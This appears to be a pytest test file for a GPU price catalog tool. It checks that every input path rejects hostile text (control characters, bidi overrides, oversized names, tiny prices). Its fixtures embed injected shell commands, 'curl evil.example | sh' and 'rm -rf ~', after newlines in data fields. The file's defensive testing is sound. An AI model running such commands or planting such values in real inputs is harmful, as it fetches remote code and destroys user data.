"""Hostile catalog text and prices (issue 26, items 1 and 4): one rule on every path into the catalog.

Real files through the real paths: ``catalog import`` run as a separate process on a private catalog, a
price update from the real HTTP server on 127.0.0.1 (tests/update_server.py), the editor's ``check_cell``,
quoted prices, the migration of an older catalog, and the CSV writer and reader.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from gpu_advisor.core.prices import update as up
from gpu_advisor.core.catalog.store import CatalogStore
from gpu_advisor.core.catalog.load import load_bundled, load_dir
from gpu_advisor.core.catalog.edits import check_cell
from gpu_advisor.core.base.problems import CatalogError
from gpu_advisor.core.prices.quotes import set_quoted_price
from gpu_advisor.core.catalog.schema import TABLES
from gpu_advisor.core.catalog.tableio import parse_csv, read_table_bytes, to_csv_bytes
from tests.update_server import FixtureServer

NOW = dt.datetime(2026, 12, 2, 9, 30, tzinfo=dt.timezone.utc)
ROOT = Path(__file__).resolve().parents[2]

# Hostile texts, each in a name the catalog keeps (an instance type).
HOSTILE = {
    "newline": "gpu_1x_evil\ncurl evil.example | sh",
    "u2028": "gpu_1x_evil\u2028name: x",
    "u0085": "gpu_1x_evil\u0085name: x",
    "bidi_override": "gpu_1x_\u202eexe.lave",
    "carriage_return": "gpu_1x_evil\rname",
    "10kb_name": "gpu_" + "x" * 10_000,
}
CODES = {"newline": "control_character", "u2028": "control_character", "u0085": "control_character",
         "bidi_override": "control_character", "carriage_return": "control_character", "10kb_name": "too_long"}


def _csv(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)  # CRLF: a cell with CR or LF is quoted
    return buf.getvalue().encode("utf-8")


def _instances_rows(cat) -> list[list[str]]:
    """The first two priced instance rows of ``cat`` as CSV records (header first)."""
    inst = cat["instances"]
    text = to_csv_bytes(inst[inst["on_demand_hour"].notna()].head(2).reset_index(drop=True),
                        TABLES["instances"]).decode()
    return [list(r) for r in csv.reader(io.StringIO(text))]


def hostile_import_file(cat, case: str) -> tuple[bytes, str]:
    """An instances.csv whose row 3 carries the hostile case; returns the bytes and the column named."""
    rows = _instances_rows(cat)
    col = {n: i for i, n in enumerate(rows[0])}
    if case in HOSTILE:
        rows[2][col["instance_type"]] = HOSTILE[case]
        return _csv(rows), "instance_type"
    if case == "price_1e-300":
        rows[2][col["on_demand_hour"]] = "1e-300"
        return _csv(rows), "on_demand_hour"
    assert case == "duplicate_key"
    rows[2] = list(rows[1])
    rows[2][col["on_demand_hour"]] = str(float(rows[1][col["on_demand_hour"]]) * 2)
    return _csv(rows), "provider,region,instance_type"


IMPORT_CASES = [*HOSTILE, "price_1e-300", "duplicate_key"]


def _generation_files(store: CatalogStore) -> dict[str, bytes]:
    cur = store.current_dir()
    assert cur is not None
    return {p.name: p.read_bytes() for p in sorted(cur.iterdir())}


@pytest.fixture(scope="module")
def bundled():
    return load_bundled()


# ------------------------------------------------------------------ catalog import, as a separate process


# Run as real processes: a Unicode line break (the stream's encoding and error handler) and the 10 KB name (the
# length of what the process prints), one per core. Every case, these two included, goes through the command
# line's code in this process in test_import_messages_say_what with the same checks (a process's stderr is the
# text that code writes: a stream that encodes UTF-8 with backslashreplace adds no character and drops none).
PROCESS_CASES = ("u2028", "10kb_name")


def _check_refusal(case: str, err: str, f: Path, column: str) -> None:
    assert f"{f}, row 3, column {column}" in err, (case, err)
    assert "your catalog is unchanged" in err, (case, err)
    assert "\u2028" not in err and "\u0085" not in err and "\u202e" not in err and "\r" not in err, case
    assert len(err) < 2000, case  # a 10 KB name is not printed whole


def test_catalog_import_refuses_every_hostile_file(tmp_path):
    """`gpu-advisor catalog import` of a hostile file as a separate process: exit 2, one message naming file, row
    and column, and the catalog's current version byte-identical; `recommend`'s catalog still loads afterwards."""
    home = tmp_path / "home"
    env = {**os.environ, "GPU_ADVISOR_HOME": str(home), "LANGUAGE": "en", "LC_ALL": "C.UTF-8",
           "PYTHONIOENCODING": "utf-8"}
    env.pop("DISPLAY", None)
    os.environ["GPU_ADVISOR_HOME"] = str(home)  # the store below is the one the processes use
    store = CatalogStore()
    cat = store.ensure()
    before = _generation_files(store)
    name_before = store.current_name()
    procs = {}
    for case in PROCESS_CASES:
        data, column = hostile_import_file(cat, case)
        f = tmp_path / f"{case}.csv"
        f.write_bytes(data)
        procs[case] = (f, column, subprocess.Popen([sys.executable, "-m", "gpu_advisor", "catalog", "import", str(f)],
                                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
                                                   text=True, encoding="utf-8", cwd=str(ROOT)))
        if len(procs) % 2 == 0:  # two at a time: the machine has two cores
            for _, _, p in list(procs.values())[-2:]:
                p.wait(timeout=120)
    accepted = []
    for case, (f, column, p) in procs.items():
        out, err = p.communicate(timeout=120)
        if p.returncode != 2:
            accepted.append(case)
            continue
        _check_refusal(case, err, f, column)
    assert accepted == []
    assert store.current_name() == name_before and _generation_files(store) == before
    assert store.load() is not None


def test_import_messages_say_what(tmp_path, advisor_home, seeded_home):
    """Every hostile file through the command line's code in this process: exit 2, what each message says, the
    file, row and column named, no control character and no 10 KB echoed, the catalog byte-identical."""
    from gpu_advisor.cli import main
    store = CatalogStore()
    cat = store.ensure()
    before = _generation_files(store)
    expect = {"newline": "control character (U+000A)", "u2028": "(U+2028)", "u0085": "(U+0085)",
              "bidi_override": "(U+202E)", "carriage_return": "(U+000D)", "10kb_name": "at most 128",
              "price_1e-300": "smallest price the catalog keeps (0.000001)", "duplicate_key": "repeats row 2"}
    name_before = store.current_name()
    assert set(expect) == set(IMPORT_CASES)
    for case, words in expect.items():
        data, column = hostile_import_file(cat, case)
        f = tmp_path / f"{case}.csv"
        f.write_bytes(data)
        err = io.StringIO()
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(sys, "stderr", err)
            code = main(["catalog", "import", str(f)])
        assert code == 2 and words in err.getvalue(), (case, err.getvalue())
        _check_refusal(case, err.getvalue(), f, column)
    assert store.current_name() == name_before and _generation_files(store) == before
    assert store.load() is not None


# ------------------------------------------------------------------ a price update from the real server


def _vms_rows() -> list[list[str]]:
    text = (ROOT / "tests" / "fixtures" / "update" / "changed" / "lambda" / "vms.csv").read_text(encoding="utf-8")
    return [list(r) for r in csv.reader(io.StringIO(text))]


def hostile_vms(case: str) -> tuple[bytes, int]:
    """The 'changed' Lambda file with one hostile row added at the end; returns the bytes and that row."""
    rows = _vms_rows()
    col = {n: i for i, n in enumerate(rows[0])}
    extra = list(rows[1])
    if case in HOSTILE:
        extra[col["InstanceType"]] = HOSTILE[case]
    elif case == "region_bidi":
        extra[col["Region"]] = "us-east-1\u202e"
        extra[col["InstanceType"]] = "gpu_1x_fresh"
    elif case == "region_newline":
        extra[col["Region"]] = "us-east-1\nx"
        extra[col["InstanceType"]] = "gpu_1x_fresh"
    rows.append(extra)
    return _csv(rows), len(rows)


UPDATE_CASES = [*HOSTILE, "region_bidi", "region_newline"]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    with FixtureServer(tmp_path_factory.mktemp("www")) as srv:
        for case in UPDATE_CASES:
            data, _ = hostile_vms(case)
            d = srv.root / f"hostile-{case}" / "lambda"
            d.mkdir(parents=True)
            (d / "vms.csv").write_bytes(data)
        rows = _vms_rows()
        col = {n: i for i, n in enumerate(rows[0])}
        # the same (InstanceType, Region, AvailabilityZone) twice at different prices
        first = next(r for r in rows[1:] if r[col["InstanceType"]] == "gpu_8x_v100")
        twice = list(first)
        twice[col["Price"]] = str(float(first[col["Price"]]) * 3)
        d = srv.root / "hostile-duplicate" / "lambda"
        d.mkdir(parents=True)
        (d / "vms.csv").write_bytes(_csv(rows + [twice]))
        # a price that rounds to zero
        tiny = [list(r) for r in rows]
        row_tiny = next(i for i, r in enumerate(tiny) if r[col["InstanceType"]] == "gpu_8x_v100")
        tiny[row_tiny][col["Price"]] = "1e-300"
        d = srv.root / "hostile-tiny" / "lambda"
        d.mkdir(parents=True)
        (d / "vms.csv").write_bytes(_csv(tiny))
        yield srv


def _preview(cat, server, kind):
    return up.preview_update(cat, ["lambda"], (up.PriceSource("lambda", server.url(kind, "lambda")),), now=NOW)


def test_update_from_the_server_the_hostile_row_is_not_usable(bundled, server):
    """Each hostile row is 'not usable' with its reason and row; the rest of the file applies as without it."""
    clean = _preview(bundled, server, "changed").providers[0]
    assert clean.ok
    used = []
    for case in UPDATE_CASES:
        pu = _preview(bundled, server, f"hostile-{case}").providers[0]
        _, row = hostile_vms(case)
        assert pu.ok, (case, pu.status, pu.detail)
        names = {r.instance_type for r in pu.new} | {c.instance_type for c in pu.changed}
        regions = {r.region for r in pu.new} | {c.region for c in pu.changed}
        if any(CODES.get(case, "control_character") == u.code and u.row == row for u in pu.unmapped) and \
                not any(ch in "".join(names | regions) for ch in "\n\r\u2028\u0085\u202e") and \
                max(map(len, names)) <= 128:
            # the rest of the file: the same new and changed rows as the file without the hostile row
            assert (pu.new, pu.changed) == (clean.new, clean.changed), case
        else:
            used.append(case)
    assert used == []


def test_update_a_zone_listed_twice_at_two_prices_is_not_usable(bundled, server):
    """The same (InstanceType, Region, AvailabilityZone) twice with different prices: that instance type is not
    usable, both rows named; no price of it is taken (no median of a conflict)."""
    pu = _preview(bundled, server, "hostile-duplicate").providers[0]
    assert pu.ok
    dup = [u for u in pu.unmapped if u.code == "duplicate_key"]
    assert dup and all(u.value == "gpu_8x_v100" for u in dup)
    rows = _vms_rows()
    first = next(i + 1 for i, r in enumerate(rows) if i and r[0] == "gpu_8x_v100")
    assert {u.row for u in dup} == {first, len(rows) + 1}
    assert "gpu_8x_v100" not in {r.instance_type for r in pu.new} | {c.instance_type for c in pu.changed}
    assert "gpu_8x_v100" not in {g.instance_type for g in pu.gone}


def test_update_a_price_that_rounds_to_zero_is_not_usable(bundled, server):
    """A price of 1e-300 (which the catalog would keep as 0) refused the whole file; since walk 21 that row is not
    usable, named with its row, column and the minimum, and nothing of it is taken: the instance keeps the catalog's
    price, and the rest of the file applies."""
    pu = _preview(bundled, server, "hostile-tiny").providers[0]
    clean = _preview(bundled, server, "changed").providers[0]
    assert pu.ok, (pu.status, pu.detail)
    rows = _vms_rows()
    row = next(i + 1 for i, r in enumerate(rows) if i and r[0] == "gpu_8x_v100")
    (u,) = [u for u in pu.unmapped if u.code == "below_min"]
    assert (u.row, u.column, u.value, u.instance_type) == (row, "Price", "1e-300", "gpu_8x_v100")
    assert "gpu_8x_v100" not in {c.instance_type for c in pu.changed} | {g.instance_type for g in pu.gone}
    assert {c.key for c in pu.changed} == {c.key for c in clean.changed if c.instance_type != "gpu_8x_v100"}
    new, _ = up.apply_update(bundled, up.UpdatePreview((pu,), "2026-12-02T00:00:00", fetch_date="2026-12-02"))
    inst = new["instances"]
    kept = inst[(inst["provider"] == "lambda") & (inst["instance_type"] == "gpu_8x_v100")]
    old = bundled["instances"]
    assert kept["on_demand_hour"].tolist() == old[(old["provider"] == "lambda")
                                                  & (old["instance_type"] == "gpu_8x_v100")]["on_demand_hour"].tolist()
    # the reason names the minimum the price is below (it said "minimum —")
    from gpu_advisor.text import problem_what
    assert "1e-300 is too small (minimum 0.000001)" in problem_what(u.code, u.value, dict(u.detail))


# ------------------------------------------------------------------ the editor


@pytest.mark.parametrize("case", [*HOSTILE, "price_1e-300"])
def test_editor_refuses_hostile_cells(bundled, case):
    df = bundled["instances"]
    if case == "price_1e-300":
        got = check_cell(bundled, "instances", df, 0, "on_demand_hour", "1e-300")
        assert [p.code for p in got.problems] == ["below_min"]
        return
    got = check_cell(bundled, "instances", df, 0, "instance_type", HOSTILE[case])
    assert [p.code for p in got.problems] == [CODES[case]], got
    p = got.problems[0]
    assert (p.file, p.row, p.column) == ("instances.csv", 2, "instance_type")
    got = check_cell(bundled, "instances", df, 0, "notes", "fine\u2029notes")
    assert [p.code for p in got.problems] == ["control_character"]
    assert got.problems[0].detail["char"] == "U+2029"


def test_editor_keeps_ordinary_text(bundled):
    df = bundled["instances"]
    got = check_cell(bundled, "instances", df, 0, "notes", "价格 (¥) — “quoted”; ok")
    assert got.ok and got.value == "价格 (¥) — “quoted”; ok"


# ------------------------------------------------------------------ quoted prices


def test_quoted_price_refuses_hostile_quoter_and_tiny_price(bundled):
    r = bundled["instances"].iloc[0]
    args = (str(r["provider"]), str(r["region"]), str(r["instance_type"]))
    with pytest.raises(CatalogError) as exc:
        set_quoted_price(bundled, *args, 12.5, who="Sales\nrm -rf ~")
    assert [p.code for p in exc.value.problems] == ["control_character"]
    with pytest.raises(CatalogError) as exc:
        set_quoted_price(bundled, *args, 12.5, notes="x" * 5000)
    assert [p.code for p in exc.value.problems] == ["too_long"]
    with pytest.raises(CatalogError) as exc:
        set_quoted_price(bundled, *args, 1e-300)
    assert [p.code for p in exc.value.problems] == ["below_min"]
    ok = set_quoted_price(bundled, *args, 12.5, who="Alice (sales)")
    assert float(ok["instances"]["on_demand_hour"].iat[0]) == 12.5


# ------------------------------------------------------------------ migration of an older catalog


def test_an_older_catalog_with_control_characters_is_cleaned_not_lost(tmp_path, bundled):
    """A version-3 catalog that holds text the rule now refuses (saved before the rule) still loads: the text is
    cleaned by the migration to version 4, nothing else changes."""
    from gpu_advisor.core.catalog.store import catalog_files
    files = catalog_files(bundled)
    inst = bundled["instances"].copy()
    inst.loc[0, "notes"] = "line one\nline two\u2028three\u202e"
    files["instances.csv"] = to_csv_bytes(inst, TABLES["instances"])
    files["catalog.json"] = b'{"schema_version": 3}'

    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    cat, problems = load_dir(tmp_path)
    assert cat is not None, problems
    assert cat["instances"]["notes"].iat[0] == "line one line two three"
    assert cat["instances"]["instance_type"].equals(bundled["instances"]["instance_type"])


# ------------------------------------------------------------------ the CSV writer and reader


TRICKY = ["a\rb", "a\nb", "a\r\nb", "\r", "\n", '"', '""', ",", "a,b", "'=1", "=1", "\t", " lead", "trail ", "\u2028",
          "\u0085", "\ufeff", "x" * 3000, "é中", "'", "''", "'\r", "\\", "a\x0bb", "\x7f", "\u202e"]


def test_the_writer_never_writes_what_the_reader_cannot_read_back():
    """Any text written by ``to_csv_bytes`` reads back as one record with the same fields, and text the rule
    accepts reads back as it was (cells are stripped on reading, as on input)."""
    t = TABLES["sources"]
    cells = TRICKY + [a + b for a in TRICKY[:12] for b in TRICKY[:12]]
    df = pd.DataFrame({c: [""] * len(cells) for c in t.column_names})
    df["source_id"] = [f"s{i}" for i in range(len(cells))]
    df["kind"] = "user"
    df["title"] = cells
    data = to_csv_bytes(df, t)
    raw, problems = parse_csv(data, "sources.csv")
    assert raw is not None and not [p for p in problems if p.code in ("field_count", "csv_syntax")]
    assert len(raw.frame) == len(cells)
    assert raw.frame["title"].tolist() == [c.strip() for c in cells]
    _, typed, _, problems = read_table_bytes(data, "sources.csv", "sources")
    bad = {p.row - 2 for p in problems if p.code in ("control_character", "too_long")}
    from gpu_advisor.core.base.textrule import CONTROL_RE
    for i, c in enumerate(cells):
        refused = CONTROL_RE.search(c.strip()) is not None or len(c.strip()) > t.column("title").max_length
        assert (i in bad) == refused, repr(c)
        if not refused:
            assert typed["title"].iat[i] == c.strip()


def test_hypothesis_round_trip():
    hyp = pytest.importorskip("hypothesis")
    st = hyp.strategies
    t = TABLES["sources"]

    @hyp.settings(max_examples=150, deadline=None)
    @hyp.given(st.lists(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=20),
                        min_size=1, max_size=5))
    def check(texts):
        df = pd.DataFrame({c: [""] * len(texts) for c in t.column_names})
        df["source_id"] = [f"s{i}" for i in range(len(texts))]
        df["kind"] = "user"
        df["notes"] = texts
        raw, problems = parse_csv(to_csv_bytes(df, t), "sources.csv")
        assert raw is not None and not [p for p in problems if p.code in ("field_count", "csv_syntax")]
        assert raw.frame["notes"].tolist() == [x.strip() for x in texts]

    check()
    # NUL makes a file read as binary: the writer refuses it rather than write a table that cannot be read
    df = pd.DataFrame({c: [""] for c in t.column_names})
    df["source_id"], df["kind"], df["notes"] = "s1", "user", "a\x00b"
    with pytest.raises(CatalogError) as refused:
        to_csv_bytes(df, t)
    assert [(p.code, p.file, p.row, p.column) for p in refused.value.problems] == [
        ("control_character", "sources.csv", 2, "notes")]


# ------------------------------------------------------------------ speed


def test_the_rule_over_a_100000_row_table_names_the_one_bad_cell(bundled):
    """The text rule over every text column of a 100,000-row instances table finds nothing in good text and
    exactly the one bad cell (its row named) among 100,000. Its speed is printed by bench/update.py, not asserted."""
    from gpu_advisor.core.catalog.tableio import coerce_column
    from gpu_advisor.core.base.textrule import check_cells
    t = TABLES["instances"]
    fmt = to_csv_bytes(bundled["instances"], t)
    raw, _ = parse_csv(fmt, "instances.csv")
    assert raw is not None
    big = pd.concat([raw.frame] * (100_000 // len(raw.frame) + 1), ignore_index=True).head(100_000)
    rows = list(range(2, len(big) + 2))
    for c in t.columns:
        bad, problems = check_cells(big[c.name].astype(str), "instances.csv", rows, c.name, c.max_length)
        assert not problems
    col = big["notes"].astype(str).copy()
    col.iat[99_999] = "bad\u2028x"
    s, problems = coerce_column(col, t.column("notes"), "instances.csv", rows, dt.date(2026, 12, 2))
    assert [(p.code, p.row) for p in problems] == [("control_character", 100_001)]
    assert np.all(s.iloc[:5] == big["notes"].iloc[:5].str.strip())


def test_cli_update_with_a_hostile_row_applies_the_rest_and_the_catalog_stays_clean(server, capsys, seeded_home):
    """`catalog update` from the server: the file with a newline in one InstanceType applies its other rows,
    says the row was not used, and the saved catalog loads and holds no control character."""
    from gpu_advisor.cli import main
    from gpu_advisor.core.base.textrule import CONTROL_RE
    store = CatalogStore()
    store.ensure()
    before = store.current_name()
    assert main(["catalog", "update", "--provider", "lambda", "--source", server.url("hostile-newline", "lambda")]) == 0
    out = capsys.readouterr().out
    assert "\ncurl evil" not in out
    assert store.current_name() != before
    cat = store.load()
    inst = cat["instances"]
    text = "".join(inst[c].astype(str).str.cat() for c in ("provider", "region", "instance_type", "notes"))
    assert CONTROL_RE.search(text) is None and "curl evil" not in text
    assert len(inst[inst["provider"] == "lambda"]) >= len(load_bundled()["instances"].query("provider == 'lambda'"))


def test_a_header_with_a_control_character_is_named_safely():
    data = "provider,name_en,name_zh,source,as_of,evil\u2028col\nx,y,z,user,2024,1\n".encode("utf-8")
    _, _, _, problems = read_table_bytes(data, "providers.csv", "providers")
    unknown = [p for p in problems if p.code == "unknown_column"]
    assert [p.column for p in unknown] == ["evil\\u2028col"]


def test_import_names_the_files_own_row_when_blank_lines_come_first(bundled):
    """A cross-table problem (an unknown GPU) names the row as the file has it, also after blank lines."""
    from gpu_advisor.core.catalog.tableimport import plan_import
    rows = _instances_rows(bundled)
    col = {n: i for i, n in enumerate(rows[0])}
    rows[2][col["gpu"]] = "NoSuchGPU"
    rows[2][col["instance_type"]] = "brand-new-type"
    data = _csv(rows[:2]) + b"\r\n,,,,,,,,,,,,,,,,,,,,\r\n" + _csv(rows[2:])
    plan = plan_import(bundled, data, "instances.csv")
    unknown = [p for p in plan.problems if p.code == "unknown_gpu"]
    assert [(p.row, p.column) for p in unknown] == [(5, "gpu")]
